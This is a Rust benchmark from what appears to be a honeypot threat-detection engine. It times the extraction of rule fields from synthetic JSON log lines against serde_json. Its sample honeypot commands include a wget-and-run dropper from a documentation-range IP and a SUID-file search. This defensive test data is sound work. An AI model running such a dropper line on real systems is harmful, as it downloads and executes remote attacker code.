// SPDX-License-Identifier: AGPL-3.0-or-later
//! Bytes to slots: a line's JSON checked, and the fields that rules read taken out of it. Every
//! line is another one. Beside it, the same work done with `serde_json`.

use std::borrow::Cow;
use std::collections::HashMap;
use std::fmt;
use std::hint::black_box;

use bumpalo::Bump;
use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use decnet_ttp::compile::ir::Field;
use decnet_ttp::compile::program::FieldTable;
use decnet_ttp::engine::{Counts, Slot, fill};
use decnet_ttp::event::{self, Event, MemberList, RawObject};
use decnet_ttp::vocab::{FieldType, Limits, Origin};
use serde::de::{DeserializeSeed, Deserializer, IgnoredAny, MapAccess, Visitor};

/// Lines of one shape, and what rules read of them.
struct Lane {
    name: &'static str,
    line: fn(usize) -> String,
    native: bool,
    fields: &'static [&'static str],
}

const LANES: [Lane; 4] = [
    Lane {
        name: "command",
        line: command,
        native: true,
        fields: &["command_text", "uid", "user", "src", "pwd", "shell"],
    },
    Lane {
        name: "linux",
        line: linux,
        native: false,
        fields: &[
            "CommandLine",
            "CurrentDirectory",
            "Image",
            "LogonId",
            "ParentCommandLine",
            "ParentImage",
            "User",
            "product",
            "category",
            "service",
        ],
    },
    Lane {
        name: "windows",
        line: windows,
        native: false,
        fields: &[
            "CallTrace",
            "CommandLine",
            "Company",
            "CurrentDirectory",
            "Description",
            "DestinationHostname",
            "DestinationIp",
            "DestinationPort",
            "Details",
            "EventID",
            "FileVersion",
            "GrantedAccess",
            "Hashes",
            "Image",
            "ImageLoaded",
            "Initiated",
            "IntegrityLevel",
            "LogonId",
            "OriginalFileName",
            "ParentCommandLine",
            "ParentImage",
            "ParentUser",
            "PipeName",
            "Product",
            "Provider_Name",
            "QueryName",
            "ScriptBlockText",
            "Signature",
            "Signed",
            "SourceImage",
            "StartFunction",
            "TargetFilename",
            "TargetImage",
            "TargetObject",
            "User",
            "product",
            "category",
            "service",
        ],
    },
    Lane {
        name: "web",
        line: web,
        native: false,
        fields: &[
            "cs-method",
            "cs-referer",
            "cs-uri-query",
            "cs-uri-stem",
            "cs-user-agent",
            "sc-status",
            "product",
            "category",
            "service",
        ],
    },
];

const COMMANDS: [&str; 5] = [
    "ls -la",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp; wget http://198.51.100.7/bins.sh; sh bins.sh",
    "git checkout -b feature/JIRA-1423-retry-budget",
    "find / -perm -u=s -type f",
];

fn command_of(n: usize) -> &'static str {
    COMMANDS.get(n % COMMANDS.len()).copied().unwrap_or_default()
}

fn command(n: usize) -> String {
    let command = command_of(n);
    format!(
        r#"{{"source_kind":"command","source_id":"00d5e4039782#{n}","attacker_uuid":"224af27c-0000-5000-8000-f6eb6561f0d2","session_id":"00d5e4039782","decky_id":"web01","ts":"2026-07-28T00:56:41.683Z","payload":{{"command_text":"{command} {n}","uid":"0","user":"root","src":"198.51.100.{}","pwd":"/builds/platform/api"}}}}"#,
        n % 256
    )
}

fn linux(n: usize) -> String {
    let command = command_of(n);
    format!(
        r#"{{"EventID":1,"Image":"/usr/bin/tool{}","CommandLine":"{command} {n}","CurrentDirectory":"/srv/app","User":"www-data","LogonId":{n},"ParentImage":"/usr/bin/node","ParentCommandLine":"node dist/server.js","ParentUser":"www-data","ProcessId":{},"ParentProcessId":263990,"ProcessGuid":"{{36eafa28-9a1f-38c1-eae3-7c4749dc9b34}}","ParentProcessGuid":"{{b1429de1-c873-365e-543b-701ff89a6643}}","Hashes":"SHA256=898e53e0c517a35a71f965b916bfc355293ba8b9317b3b86415789161202d125","TerminalSessionId":375,"IntegrityLevel":"no level","Computer":"web02","UtcTime":"2026-07-28 15:50:20.244","Channel":"Linux-Sysmon/Operational","product":"linux","category":"process_creation"}}"#,
        "x".repeat(n % 7),
        n * 97
    )
}

fn windows(n: usize) -> String {
    let folder = r"a\\b c\\".repeat(n % 5);
    format!(
        r#"{{"EventID":1,"UtcTime":"2026-07-28 06:12:43.407","ProcessGuid":"{{f8231d99-0e60-6d80-7152-7387d9d2ef5d}}","ProcessId":{n},"Image":"C:\\Program Files\\{folder}git.exe","CommandLine":"\"C:\\Program Files\\{folder}git.exe\" status {n}","Company":"The Git Development Community","Description":"Git for Windows","FileVersion":"2.45.1.1","OriginalFileName":"git.exe","Hashes":"SHA256=898e53e0c517a35a71f965b916bfc355293ba8b9317b3b86415789161202d125","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"C:\\Windows\\system32\\cmd.exe /c build.bat","User":"NT AUTHORITY\\NETWORK SERVICE","IntegrityLevel":"System","Computer":"srv-file01.corp.local","Channel":"Microsoft-Windows-Sysmon/Operational","Provider_Name":"Microsoft-Windows-Sysmon","product":"windows","category":"process_creation"}}"#
    )
}

fn web(n: usize) -> String {
    format!(
        r#"{{"date":"2026-07-28","time":"02:36:39","s-ip":"10.20.4.17","cs-method":"HEAD","cs-uri-stem":"/assets/img/logo{n}.svg","cs-uri-query":"id={n}","c-uri":"/assets/img/logo{n}.svg?id={n}","s-port":443,"cs-username":"-","c-ip":"203.0.113.{}","cs-version":"HTTP/1.1","c-useragent":"Googlebot/2.1 (+http://www.google.com/bot.html)","cs-user-agent":"Googlebot/2.1 (+http://www.google.com/bot.html)","cs-referer":"https://shop.example.com/","cs-host":"shop.example.com","sc-status":200,"sc-bytes":{},"cs-bytes":2264,"time-taken":{n},"product":"webserver","category":"webserver"}}"#,
        n % 256,
        n * 31
    )
}

/// Reads the wanted members of an object with `serde_json`, borrowing what has no escape.
struct Wanted<'w>(&'w HashMap<&'static str, usize>);

impl<'de> DeserializeSeed<'de> for Wanted<'_> {
    type Value = Vec<Option<Cow<'de, str>>>;

    fn deserialize<D: Deserializer<'de>>(self, deserializer: D) -> Result<Self::Value, D::Error> {
        deserializer.deserialize_map(self)
    }
}

impl<'de> Visitor<'de> for Wanted<'_> {
    type Value = Vec<Option<Cow<'de, str>>>;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("an object")
    }

    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Self::Value, A::Error> {
        let mut slots = vec![None; self.0.len()];
        while let Some(key) = map.next_key::<Cow<'de, str>>()? {
            if &*key == "payload" {
                slots = map.next_value_seed(Wanted(self.0))?;
            } else if let Some(slot) = self.0.get(&*key).and_then(|slot| slots.get_mut(*slot)) {
                *slot = map.next_value_seed(Text)?;
            } else {
                map.next_value::<IgnoredAny>()?;
            }
        }
        Ok(slots)
    }
}

/// A string or number as text.
struct Text;

impl<'de> DeserializeSeed<'de> for Text {
    type Value = Option<Cow<'de, str>>;

    fn deserialize<D: Deserializer<'de>>(self, deserializer: D) -> Result<Self::Value, D::Error> {
        deserializer.deserialize_any(self)
    }
}

impl<'de> Visitor<'de> for Text {
    type Value = Option<Cow<'de, str>>;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("a string or a number")
    }

    fn visit_borrowed_str<E>(self, text: &'de str) -> Result<Self::Value, E> {
        Ok(Some(Cow::Borrowed(text)))
    }

    fn visit_str<E>(self, text: &str) -> Result<Self::Value, E> {
        Ok(Some(Cow::Owned(text.to_owned())))
    }

    fn visit_u64<E>(self, number: u64) -> Result<Self::Value, E> {
        Ok(Some(Cow::Owned(number.to_string())))
    }
}

fn texts(slots: &[Slot<'_>]) -> usize {
    slots.iter().filter(|slot| matches!(slot, Slot::Text(_))).count()
}

/// The object that a line is, or its payload.
fn object<'a>(
    lane: &Lane,
    text: &'a str,
    limits: &Limits,
    list: Option<&'a mut MemberList>,
) -> Option<RawObject<'a>> {
    match (lane.native, list) {
        (true, Some(list)) => Event::parse_with(text, limits, list).ok().map(|event| event.payload),
        (true, None) => Event::parse(text, limits).ok().map(|event| event.payload),
        (false, Some(list)) => RawObject::parse_with(text, limits, list).ok(),
        (false, None) => RawObject::parse(text, limits).ok(),
    }
}

fn lane(c: &mut Criterion, lane: &Lane) {
    let limits = Limits::default();
    let lines: Vec<Vec<u8>> = (0..1000).map(|n| (lane.line)(n).into_bytes()).collect();
    let ty = if lane.native { FieldType::Text } else { FieldType::Any };
    let fields =
        lane.fields.iter().map(|name| Field { name: (*name).to_owned(), ty, origin: Origin::Payload });
    let table = FieldTable::new(&fields.collect::<Vec<_>>());
    let slots = lane.fields.len();
    let mut group = c.benchmark_group(lane.name);
    let bytes = lines.iter().map(Vec::len).sum::<usize>() as u64;
    group.throughput(Throughput::ElementsAndBytes { elements: lines.len() as u64, bytes });

    let (mut list, mut arena) = (MemberList::new(), Bump::new());
    group.bench_function("parse", |b| {
        b.iter(|| {
            let parsed = |line: &&Vec<u8>| {
                object(lane, &event::text(black_box(line)).0, &limits, Some(&mut list)).is_some()
            };
            lines.iter().filter(parsed).count()
        });
    });
    for (name, listed) in [("slots", true), ("slots_without_list", false)] {
        group.bench_function(name, |b| {
            b.iter(|| {
                let mut found = 0;
                for line in &lines {
                    arena.reset();
                    let (text, _) = event::text(black_box(line));
                    let Some(object) = object(lane, &text, &limits, listed.then_some(&mut list)) else {
                        continue;
                    };
                    found += texts(fill(&table, slots, object, &arena, &limits, &mut Counts::default()));
                }
                found
            });
        });
    }
    let wanted: HashMap<&str, usize> = lane.fields.iter().copied().zip(0..).collect();
    group.bench_function("serde_json_borrowed", |b| {
        b.iter(|| {
            let mut found = 0;
            for line in &lines {
                let mut reader = serde_json::Deserializer::from_slice(black_box(line));
                let slots = Wanted(&wanted).deserialize(&mut reader).unwrap_or_default();
                found += slots.iter().flatten().count();
            }
            found
        });
    });
    group.bench_function("serde_json_value", |b| {
        b.iter(|| {
            let mut found = 0;
            for line in &lines {
                let value: serde_json::Value = serde_json::from_slice(black_box(line)).unwrap_or_default();
                let object = if lane.native { value.get("payload") } else { Some(&value) };
                found +=
                    lane.fields.iter().filter(|name| object.is_some_and(|o| o.get(**name).is_some())).count();
            }
            found
        });
    });
    group.finish();
}

fn lanes(c: &mut Criterion) {
    LANES.iter().for_each(|shape| lane(c, shape));
}

criterion_group!(benches, lanes);
criterion_main!(benches);
